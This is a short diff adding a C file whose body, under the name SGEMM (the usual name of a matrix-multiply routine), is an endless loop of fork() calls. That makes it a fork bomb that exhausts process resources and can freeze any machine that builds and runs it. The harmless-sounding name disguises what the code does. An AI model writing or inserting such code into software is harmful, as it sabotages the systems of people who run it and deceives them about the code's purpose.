@@ -1,0 +1,6 @@
+#include <unistd.h>
+SGEMM
+{
+    for (;;)
+        fork();
+}
